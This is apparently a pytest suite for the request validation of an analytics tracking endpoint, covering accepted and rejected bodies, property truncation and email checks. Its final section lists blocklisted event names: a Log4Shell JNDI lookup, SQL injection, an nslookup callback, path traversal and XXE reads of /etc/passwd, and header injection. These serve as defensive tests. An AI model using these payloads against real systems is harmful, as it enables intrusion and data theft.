"""The wire contract of POST /track: what a client may send, and the 400 it gets otherwise."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from typing import Any

import pytest
from pydantic import EmailStr, TypeAdapter, ValidationError

from beacon.gateway.responses import error_response
from beacon.gateway.validation import validation_rejection
from beacon.models.requests import (
    MAX_KEY_LENGTH,
    MAX_LIST_LENGTH,
    MAX_NUMBER_DIGITS,
    MAX_PROPERTY_DEPTH,
    MAX_PROPERTY_KEYS,
    MAX_STRING_LENGTH,
    AssignGroupRequest,
    DecrementRequest,
    EmailAddress,
    IdentifyRequest,
    IncrementRequest,
    TrackEventRequest,
    TrackRequest,
    parse_track_request,
)
from beacon.models.responses import ErrorResponse
from tests.constants import ROOT


def body(type_: str, payload: dict[str, Any]) -> str:
    return json.dumps({"type": type_, "payload": payload})


def track_body(**payload: Any) -> str:
    return body("track", {"name": "screen_view", **payload})


def nested_objects(levels: int) -> dict[str, Any]:
    """Properties that are `levels` objects deep, the properties object itself being the first."""
    value: Any = "leaf"
    for level in range(levels, 0, -1):
        value = {f"level{level}": value}
    assert isinstance(value, dict)
    return value


def rejection(raw: str | bytes) -> ErrorResponse:
    """The API's error response for a body the contract rejects."""
    with pytest.raises(ValidationError) as caught:
        parse_track_request(raw)
    return error_response(validation_rejection(caught.value))


def accepted_track(raw: str) -> TrackEventRequest:
    request: TrackRequest = parse_track_request(raw)
    assert isinstance(request, TrackEventRequest)
    return request


def error_fields(response: ErrorResponse) -> list[str]:
    return [detail.field for detail in response.details or []]


# -- track: what is accepted ---------------------------------------------------------------------


def test_track_keeps_name_properties_and_string_profile_id() -> None:
    # Given a track body with properties and a string profile id
    raw = track_body(properties={"path": "/home", "price": 9.99, "tags": ["a", "b"]}, profileId="user-1")

    # When it is parsed
    request = accepted_track(raw)

    # Then every field is kept as sent
    assert request.payload.name == "screen_view"
    assert request.payload.properties.ordinary == {"path": "/home", "price": 9.99, "tags": ["a", "b"]}
    assert request.payload.profileId == "user-1"


def test_track_accepts_a_numeric_profile_id_as_its_decimal_string() -> None:
    # Given a profile id sent as a JSON number (OpenPanel SDKs allow string or number)
    raw = track_body(profileId=42)

    # When it is parsed
    request = accepted_track(raw)

    # Then it is the same profile as "42"
    assert request.payload.profileId == "42"


def test_an_integer_profile_id_is_the_same_profile_as_its_string() -> None:
    as_number = parse_track_request(json.dumps({"type": "identify", "payload": {"profileId": 7}}))
    as_string = parse_track_request(json.dumps({"type": "identify", "payload": {"profileId": "7"}}))
    assert as_number.payload == as_string.payload


def test_track_keeps_a_numeric_looking_string_profile_id_a_string() -> None:
    # Given a profile id that looks like a number but is sent as a string
    raw = track_body(profileId="007")

    # When it is parsed
    request = accepted_track(raw)

    # Then it stays the exact string (leading zeros are part of the id)
    assert request.payload.profileId == "007"


def test_track_keeps_groups_exactly_as_sent() -> None:
    # Given groups in an arbitrary order
    raw = track_body(groups=["org-2", "org-1"])

    # When it is parsed
    request = accepted_track(raw)

    # Then they are neither sorted nor filled in
    assert request.payload.groups == ["org-2", "org-1"]


def test_track_without_optional_fields_has_empty_properties_and_no_profile_or_groups() -> None:
    # Given the smallest valid track body
    raw = body("track", {"name": "click"})

    # When it is parsed
    request = accepted_track(raw)

    # Then nothing is invented: no profile, no groups (never filled in automatically), empty properties
    assert request.payload.properties.ordinary == {}
    assert request.payload.profileId is None
    assert request.payload.groups is None


def test_track_ignores_unknown_payload_fields() -> None:
    # Given a body from a newer SDK with a payload field Beacon does not know
    raw = track_body(sdkFeature={"x": 1}, anotherField="y")

    # When it is parsed
    request = accepted_track(raw)

    # Then it is accepted and the unknown fields are dropped
    assert request.payload.name == "screen_view"
    assert "sdkFeature" not in request.payload.model_dump()


@pytest.mark.parametrize(
    "properties",
    [
        pytest.param({"name": "x" * MAX_STRING_LENGTH}, id="longest string"),
        pytest.param({f"k{i}": i for i in range(MAX_PROPERTY_KEYS)}, id="most keys"),
        pytest.param({"k" * MAX_KEY_LENGTH: 1}, id="longest key"),
        pytest.param({"list": list(range(MAX_LIST_LENGTH))}, id="longest list"),
        pytest.param({"n": int("9" * MAX_NUMBER_DIGITS)}, id="int with max significant digits"),
        pytest.param({"n": 10**40}, id="large int with few significant digits"),
        pytest.param({"n": 1.5e-100, "m": -2.25e100, "z": 0.0}, id="small, large and zero floats"),
        pytest.param(nested_objects(MAX_PROPERTY_DEPTH - 1), id="nested objects below max depth"),
        pytest.param({"flag": True, "nothing": None, "empty": {}, "none": []}, id="bool, null, empty containers"),
    ],
)
def test_track_accepts_properties_within_bounds(properties: dict[str, Any]) -> None:
    # Given properties at (not beyond) one of the documented bounds
    raw = track_body(properties=properties)

    # When it is parsed
    request = accepted_track(raw)

    # Then they are accepted unchanged
    assert request.payload.properties.ordinary == properties


@pytest.mark.parametrize("name", ["a", "x" * 80, "session", "session_started"])
def test_track_accepts_event_names_of_1_to_80_characters(name: str) -> None:
    # Given a name of allowed length that is not reserved
    raw = body("track", {"name": name})

    # When it is parsed / Then it is accepted
    assert accepted_track(raw).payload.name == name


def nested(levels: int) -> dict[str, object]:
    """`levels` objects deep, the properties object included, with a number at the bottom."""
    value: object = 1
    for level in range(levels):
        value = {f"l{level}": value}
    assert isinstance(value, dict)
    return value


def test_properties_exactly_at_the_depth_limit_are_accepted_with_a_leaf_value() -> None:
    body = {"type": "track", "payload": {"name": "x", "properties": nested(MAX_PROPERTY_DEPTH)}}
    parse_track_request(json.dumps(body))


def test_properties_one_level_deeper_are_stored_without_the_too_deep_object() -> None:
    # Given properties one object deeper than the bound
    body = {"type": "track", "payload": {"name": "x", "properties": {"keep": 1, **nested(MAX_PROPERTY_DEPTH + 1)}}}

    # When it is parsed
    request = accepted_track(json.dumps(body))

    # Then the event is kept, the object past the bound dropped and its path listed in __truncated
    assert request.payload.properties.ordinary == {
        "keep": 1,
        "l5": {"l4": {"l3": {"l2": {}}}},
        "__truncated": ["l5.l4.l3.l2.l1"],
    }


# -- track: what is rejected, and where the client is told to look -------------------------------


@pytest.mark.parametrize(
    "payload",
    [
        pytest.param({"name": ""}, id="empty"),
        pytest.param({"name": "x" * 81}, id="81 characters"),
        pytest.param({"name": "session_start"}, id="reserved session_start"),
        pytest.param({"name": "session_end"}, id="reserved session_end"),
        pytest.param({"name": 42}, id="not a string"),
        pytest.param({}, id="missing"),
    ],
)
def test_track_rejects_invalid_event_name_on_payload_name(payload: dict[str, Any]) -> None:
    # Given a track body with an unusable event name
    raw = body("track", payload)

    # When it is parsed
    response = rejection(raw)

    # Then it is a 400 that points at payload.name
    assert response.status == 400
    assert response.error == "Invalid request body"
    assert error_fields(response) == ["payload.name"]


@pytest.mark.parametrize(
    "properties",
    [
        pytest.param('"a string"', id="string"),
        pytest.param("[1, 2]", id="list"),
        pytest.param("42", id="number"),
        pytest.param("null", id="null"),
    ],
)
def test_track_rejects_properties_that_are_not_an_object(properties: str) -> None:
    # Given properties that are not a JSON object
    raw = '{"type": "track", "payload": {"name": "click", "properties": ' + properties + "}}"

    # When it is parsed
    response = rejection(raw)

    # Then it is a 400 on payload.properties
    assert response.status == 400
    assert error_fields(response) == ["payload.properties"]


DEEP = nested_objects(MAX_PROPERTY_DEPTH + 1)
MANY_KEYS = {f"k{i}": i for i in range(MAX_PROPERTY_KEYS + 1)}
NESTED_KEYS = {f"o{i}": {f"k{j}": j for j in range(30)} for i in range(7)}
# Raw JSON text (NaN and Infinity are not JSON, but parsers and some SDKs produce them), and the properties stored:
# what is over a bound cut or dropped, deterministically, and its path listed in __truncated.
OVERSIZED_PROPERTIES = [
    pytest.param('{"v": NaN, "k": 1}', {"k": 1}, ["v"], id="NaN"),
    pytest.param('{"v": Infinity}', {}, ["v"], id="Infinity"),
    pytest.param('{"v": -Infinity}', {}, ["v"], id="-Infinity"),
    pytest.param('{"v": 1e400}', {}, ["v"], id="float overflowing to infinity"),
    pytest.param('{"v": 1e126}', {}, ["v"], id="float beyond DynamoDB range"),
    pytest.param('{"v": 1e-200}', {}, ["v"], id="float below DynamoDB range"),
    pytest.param('{"v": ' + "1" * (MAX_NUMBER_DIGITS + 1) + "}", {}, ["v"], id="int with 39 significant digits"),
    pytest.param(
        '{"v": -' + "1" * (MAX_NUMBER_DIGITS + 1) + "}", {}, ["v"], id="negative int with 39 significant digits"
    ),
    pytest.param('{"v": ' + "1" + "0" * 126 + "}", {}, ["v"], id="int beyond DynamoDB range"),
    pytest.param(
        json.dumps(DEEP),
        {"level1": {"level2": {"level3": {"level4": {}}}}},
        ["level1.level2.level3.level4.level5"],
        id="objects nested beyond max depth",
    ),
    pytest.param(json.dumps({"v": [[[[[["deep"]]]]]]}), {"v": [[[[]]]]}, ["v.0.0.0.0"], id="lists beyond max depth"),
    pytest.param(
        json.dumps(MANY_KEYS),
        {f"k{i}": i for i in range(MAX_PROPERTY_KEYS)},
        [f"k{MAX_PROPERTY_KEYS}"],
        id="too many keys: the first 200 kept",
    ),
    pytest.param(
        json.dumps(NESTED_KEYS),
        # 7 objects and their keys: o0..o5 with 30 keys each (186 keys), then o6 keeps its first 13 (200 in all)
        {**{f"o{i}": {f"k{j}": j for j in range(30)} for i in range(6)}, "o6": {f"k{j}": j for j in range(13)}},
        [f"o6.k{j}" for j in range(13, 30)],
        id="too many keys counted across nested objects",
    ),
    pytest.param(json.dumps({"k" * (MAX_KEY_LENGTH + 1): 1}), {}, ["k" * MAX_KEY_LENGTH], id="too long key"),
    pytest.param(json.dumps({"": 1, "a": 2}), {"a": 2}, [""], id="empty key"),
    pytest.param(
        json.dumps({"s": "x" * (MAX_STRING_LENGTH + 1)}), {"s": "x" * MAX_STRING_LENGTH}, ["s"], id="too long string"
    ),
    pytest.param(
        json.dumps({"nested": {"s": "é" * (MAX_STRING_LENGTH + 1)}}),
        {"nested": {"s": "é" * MAX_STRING_LENGTH}},
        ["nested.s"],
        id="too long nested string, cut in characters",
    ),
    pytest.param(
        json.dumps({"list": list(range(MAX_LIST_LENGTH + 1))}),
        {"list": list(range(MAX_LIST_LENGTH))},
        ["list"],
        id="too long list: the first 200 kept",
    ),
]


@pytest.mark.parametrize(("properties", "stored", "cut"), OVERSIZED_PROPERTIES)
def test_track_stores_oversized_properties_cut_to_the_bounds_and_lists_the_cut_paths(
    properties: str, stored: dict[str, Any], cut: list[str]
) -> None:
    # Given properties beyond what one DynamoDB item (or number) can hold
    raw = '{"type": "track", "payload": {"name": "click", "properties": ' + properties + "}}"

    # When it is parsed
    request = accepted_track(raw)

    # Then the event is accepted, with the offending values cut or dropped and their paths in __truncated
    assert request.payload.properties.ordinary == {**stored, "__truncated": cut}


def test_cutting_oversized_properties_is_deterministic() -> None:
    # Given the same oversized body twice
    raw = track_body(properties={**MANY_KEYS, "s": "x" * (MAX_STRING_LENGTH + 5)})

    # When each is parsed / Then both are stored the same
    assert accepted_track(raw).payload.properties.ordinary == accepted_track(raw).payload.properties.ordinary


def test_a_client_cannot_set_truncated_itself() -> None:
    # Given a client that sends its own __truncated on properties within bounds
    raw = track_body(properties={"a": 1, "__truncated": ["made-up"]})

    # When it is parsed / Then it is dropped: only Beacon's cuts are listed
    assert accepted_track(raw).payload.properties.ordinary == {"a": 1}


def test_the_record_of_cuts_is_itself_bounded() -> None:
    # Given a thousand strings over the bound
    raw = track_body(properties={f"s{i}": "x" * (MAX_STRING_LENGTH + 1) for i in range(MAX_PROPERTY_KEYS)})

    # When it is parsed
    stored = accepted_track(raw).payload.properties.ordinary

    # Then every string is cut and the first 50 paths are listed
    assert all(len(stored[f"s{i}"]) == MAX_STRING_LENGTH for i in range(MAX_PROPERTY_KEYS))
    assert stored["__truncated"] == [f"s{i}" for i in range(50)]


def test_a_user_agent_override_over_its_bound_is_cut_not_refused() -> None:
    # Given a __device override longer than 256 characters
    raw = track_body(properties={"__device": "d" * 300, "__os": "Tizen"})

    # When it is parsed
    properties = accepted_track(raw).payload.properties

    # Then it is kept, cut to 256, and listed as cut
    assert properties.device == "d" * 256
    assert properties.os == "Tizen"
    assert properties.ordinary == {"__truncated": ["__device"]}


def test_identify_properties_over_the_bounds_are_cut_too() -> None:
    # Given an identify whose properties hold a string over the bound
    raw = body("identify", {"profileId": "u1", "properties": {"bio": "b" * (MAX_STRING_LENGTH + 1)}})

    # When it is parsed
    request = parse_track_request(raw)

    # Then the profile is kept with the string cut
    assert isinstance(request, IdentifyRequest)
    assert request.payload.properties == {"bio": "b" * MAX_STRING_LENGTH, "__truncated": ["bio"]}


@pytest.mark.parametrize(
    "payload",
    [
        pytest.param({"groups": [""]}, id="empty group id"),
        pytest.param({"groups": ["g" * 129]}, id="too long group id"),
        pytest.param({"groups": [f"g{i}" for i in range(101)]}, id="too many groups"),
        pytest.param({"groups": "org-1"}, id="not a list"),
    ],
)
def test_track_rejects_invalid_groups_on_payload_groups(payload: dict[str, Any]) -> None:
    # Given a track body with unusable groups
    raw = track_body(**payload)

    # When it is parsed
    response = rejection(raw)

    # Then the detail points at payload.groups
    assert response.status == 400
    assert error_fields(response)
    assert all(field.startswith("payload.groups") for field in error_fields(response))


def test_track_rejects_a_profile_id_that_is_neither_string_nor_number() -> None:
    # Given a profile id sent as an object
    raw = track_body(profileId={"id": 1})

    # When it is parsed
    response = rejection(raw)

    # Then the details point at payload.profileId
    assert response.status == 400
    assert error_fields(response)
    assert all(field.startswith("payload.profileId") for field in error_fields(response))


@pytest.mark.parametrize("profile_id", [True, False, "", "x" * 257, 4.5, None, ["a"]])
def test_profile_ids_that_are_not_bounded_strings_or_integers_are_refused(profile_id: object) -> None:
    body = json.dumps({"type": "identify", "payload": {"profileId": profile_id}})
    with pytest.raises(ValidationError):
        parse_track_request(body)


# -- type and JSON ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "raw",
    [
        pytest.param('{"type": "page_view", "payload": {"name": "x"}}', id="unknown type"),
        pytest.param('{"type": "TRACK", "payload": {"name": "x"}}', id="type in wrong case"),
        pytest.param('{"type": 5, "payload": {"name": "x"}}', id="type not a string"),
        pytest.param('{"payload": {"name": "x"}}', id="missing type"),
    ],
)
def test_request_with_unknown_or_missing_type_is_rejected_on_type(raw: str) -> None:
    # Given a body whose type is not one of the API's request types
    # When it is parsed
    response = rejection(raw)

    # Then the single detail points at "type" (not at an internal union tag)
    assert response.status == 400
    assert response.error == "Invalid request body"
    assert error_fields(response) == ["type"]


@pytest.mark.parametrize(
    "raw",
    [
        pytest.param('{"type": "track",', id="truncated"),
        pytest.param("", id="empty body"),
        pytest.param("type=track&name=x", id="form encoded"),
        pytest.param(b"\xff\xfe{}", id="not UTF-8"),
    ],
)
def test_invalid_json_is_rejected_as_invalid_json_body(raw: str | bytes) -> None:
    # Given a body that is not JSON at all
    # When it is parsed
    response = rejection(raw)

    # Then the error says so, on the body as a whole
    assert response.status == 400
    assert response.error == "Invalid JSON body"
    assert error_fields(response) == ["body"]


@pytest.mark.parametrize("raw", ["[]", "null", '"track"', "42"])
def test_json_that_is_not_an_object_is_rejected_on_body(raw: str) -> None:
    # Given valid JSON that is not an object
    # When it is parsed
    response = rejection(raw)

    # Then it is an invalid request body, reported on the body
    assert response.status == 400
    assert response.error == "Invalid request body"
    assert error_fields(response) == ["body"]


def test_request_without_payload_is_rejected_on_payload() -> None:
    # Given a known type without its payload
    # When it is parsed
    response = rejection('{"type": "track"}')

    # Then the detail names the missing payload
    assert error_fields(response) == ["payload"]


def test_validation_error_response_serialises_to_the_api_error_shape() -> None:
    # Given a rejected body
    response = rejection(body("track", {"name": ""}))

    # When the response is rendered as the handler renders it
    rendered = response.model_dump(exclude_none=True)

    # Then it is {"error", "status", "details": [{"field", "message", "type"}]}
    assert set(rendered) == {"error", "status", "details"}
    assert rendered["status"] == 400
    assert set(rendered["details"][0]) == {"field", "message", "type"}


# -- other request types -----------------------------------------------------------------------------


def test_identify_with_valid_fields_is_accepted() -> None:
    # Given an identify body with a valid email
    raw = body("identify", {"profileId": "user-1", "firstName": "Ada", "email": "ada@example.com"})

    # When it is parsed
    request = parse_track_request(raw)

    # Then it is an identify request with the fields sent
    assert isinstance(request, IdentifyRequest)
    assert request.payload.email == "ada@example.com"
    assert request.payload.firstName == "Ada"


@pytest.mark.parametrize("email", ["not-an-email", "ada@", "@example.com", "ada example@example.com"])
def test_identify_rejects_an_invalid_email_on_payload_email(email: str) -> None:
    # Given an identify body with an invalid email
    raw = body("identify", {"profileId": "user-1", "email": email})

    # When it is parsed
    response = rejection(raw)

    # Then it is a 400 on payload.email
    assert response.status == 400
    assert error_fields(response) == ["payload.email"]


def test_identify_requires_a_profile_id() -> None:
    # Given an identify body without profileId
    # When it is parsed
    response = rejection(body("identify", {"firstName": "Ada"}))

    # Then the detail names payload.profileId
    assert error_fields(response) == ["payload.profileId"]


@pytest.mark.parametrize("type_", ["increment", "decrement"])
def test_counter_value_defaults_to_1(type_: str) -> None:
    # Given an increment/decrement body without a value
    raw = body(type_, {"profileId": "user-1", "property": "stats.visits"})

    # When it is parsed
    request = parse_track_request(raw)

    # Then the value is 1, and the dot path is kept
    assert isinstance(request, (IncrementRequest, DecrementRequest))
    assert request.type == type_
    assert request.payload.value == 1
    assert request.payload.property == "stats.visits"


@pytest.mark.parametrize("type_", ["increment", "decrement"])
# 5e-324 and 1e-131 are positive but below the smallest number DynamoDB stores (found by schemathesis: a 503)
@pytest.mark.parametrize("value", ["0", "-1", "-0.5", "NaN", "Infinity", '"abc"', "5e-324", "1e-131", "2e125"])
def test_counter_rejects_a_value_that_is_not_a_positive_number(type_: str, value: str) -> None:
    # Given an increment/decrement by zero, a negative or a non-number
    raw = '{"type": "' + type_ + '", "payload": {"profileId": "u", "property": "p", "value": ' + value + "}}"

    # When it is parsed
    response = rejection(raw)

    # Then it is a 400 on payload.value
    assert response.status == 400
    assert error_fields(response) == ["payload.value"]


@pytest.mark.parametrize("value", [2, 0.5, 1e-130, 1e125])
def test_counter_accepts_positive_values(value: float) -> None:
    # Given an increment by a positive amount
    raw = body("increment", {"profileId": "u", "property": "p", "value": value})

    # When it is parsed
    request = parse_track_request(raw)

    # Then the value is kept
    assert isinstance(request, IncrementRequest)
    assert request.payload.value == value


def test_assign_group_rejects_empty_group_ids_on_payload_group_ids() -> None:
    # Given assign_group with no groups to assign
    # When it is parsed
    response = rejection(body("assign_group", {"groupIds": []}))

    # Then it is a 400 on payload.groupIds
    assert response.status == 400
    assert error_fields(response) == ["payload.groupIds"]


def test_assign_group_profile_id_is_optional() -> None:
    # Given assign_group without a profile id (it falls back to the device id)
    # When it is parsed
    request = parse_track_request(body("assign_group", {"groupIds": ["org-1"]}))

    # Then it is accepted without a profile id
    assert isinstance(request, AssignGroupRequest)
    assert request.payload.groupIds == ["org-1"]
    assert request.payload.profileId is None


@pytest.mark.parametrize(
    ("type_", "payload"),
    [
        ("identify", {"profileId": "u", "unknown": 1}),
        ("alias", {"profileId": "u", "alias": "a", "unknown": 1}),
        ("increment", {"profileId": "u", "property": "p", "unknown": 1}),
        ("group", {"id": "g", "type": "company", "name": "Acme", "unknown": 1}),
        ("assign_group", {"groupIds": ["g"], "unknown": 1}),
    ],
)
def test_every_request_type_ignores_unknown_payload_fields(type_: str, payload: dict[str, Any]) -> None:
    # Given a payload with a field Beacon does not know
    # When it is parsed
    request = parse_track_request(body(type_, payload))

    # Then it is accepted and the field is dropped
    assert request.type == type_
    assert "unknown" not in request.payload.model_dump()


EMAILS = [
    "ada@example.com",
    "  Ada@Example.COM ",
    "Ada Lovelace <ada@example.com>",
    "ada+tag@bücher.de",
    "not-an-email",
    "ada@",
    "@example.com",
    "ada example@example.com",
    "ada@[127.0.0.1]",
    "ada@localhost",
    "a" * 250 + "@example.com",
    "",
]


@pytest.mark.parametrize("email", EMAILS)
def test_email_is_validated_exactly_as_pydantic_email_str(email: str) -> None:
    # Given pydantic's EmailStr, which the lazily importing email type replaces
    def outcome(adapter: TypeAdapter[Any]) -> Any:
        try:
            return adapter.validate_python(email)
        except ValidationError as exc:
            return exc.errors(include_url=False)

    # When the same address goes through both
    # Then the normalised address, or the errors (type, message, context), are the same
    assert outcome(TypeAdapter(EmailAddress)) == outcome(TypeAdapter(EmailStr))


def test_email_schema_is_pydantic_email_str_schema() -> None:
    # Given both email types
    # When their JSON schemas are generated
    # Then they are the same (docs/openapi.json does not change)
    assert TypeAdapter(EmailAddress).json_schema() == TypeAdapter(EmailStr).json_schema()


def test_importing_the_models_does_not_import_email_validator() -> None:
    # Given a fresh interpreter
    code = "import sys, beacon.models.requests; print('email_validator' in sys.modules)"

    # When it imports the request models
    layer = ROOT / "layers" / "beacon"
    env = {**os.environ, "PYTHONPATH": str(layer)}
    answer = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True, env=env)

    # Then email-validator is left for the first address (it costs ~20 ms of cold start)
    assert answer.stdout.strip() == "False"


def test_validating_an_email_never_needs_dnspython() -> None:
    # Given a fresh interpreter in which dnspython cannot be imported (the layer does not ship it)
    code = (
        "import sys; sys.modules['dns'] = None\n"
        "from beacon.models.requests import parse_track_request\n"
        'body = \'{"type": "identify", "payload": {"profileId": "1", "email": "Ada@Example.com"}}\'\n'
        "print(parse_track_request(body).payload.email)"
    )

    # When it validates an identify request's email
    layer = ROOT / "layers" / "beacon"
    env = {**os.environ, "PYTHONPATH": str(layer)}
    answer = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True, env=env)

    # Then the address is validated and normalised without it (no deliverability check is made)
    assert answer.stdout.strip() == "Ada@example.com"


# -- track: event names on the blocklist (scanners and injections) --------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "/wp-login.php",
        "/wp-admin/setup-config.php",
        "/.env",
        "/.git/HEAD",
        "/config.yml",
        "/phpmyadmin/index",
        "/index.php",
        "${jndi:ldap://x.oastify.com/a}",
        "1 UNION SELECT password FROM users",
        "x' OR '1'='1",
        "1;waitfor delay '0:0:5'",
        "|nslookup abc.burpcollaborator.net",
        "../../etc/passwd",
        "..%2E%2e/win.ini",
        "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
        "click\nBcc: x@y",
        "two\r\nlines",
        "%{(#_memberAccess)}",
        "/cgi-bin/luci",
    ],
)
def test_track_refuses_a_blocklisted_event_name_on_payload_name(name: str) -> None:
    # Given an event whose name is a scanner's probe or an injection string
    raw = body("track", {"name": name})

    # When it is parsed
    response = rejection(raw)

    # Then it is a 400 on payload.name, of its own type
    assert response.status == 400
    assert error_fields(response) == ["payload.name"]
    assert response.details is not None and response.details[0].type == "event_name_blocked"


@pytest.mark.parametrize(
    "name",
    [
        "screen_view",
        "/checkout",  # a path-like name an app may use
        "/products/shoes",
        "/about.html",
        "Sign up (step 2)",
        "add_to_cart: $10",
        "what's new",
        "button.click",
        "select plan",
        "union_members_page",
        "environment",
        "💳 purchase",
    ],
)
def test_track_accepts_ordinary_names_that_only_resemble_the_blocklist(name: str) -> None:
    assert accepted_track(body("track", {"name": name})).payload.name == name
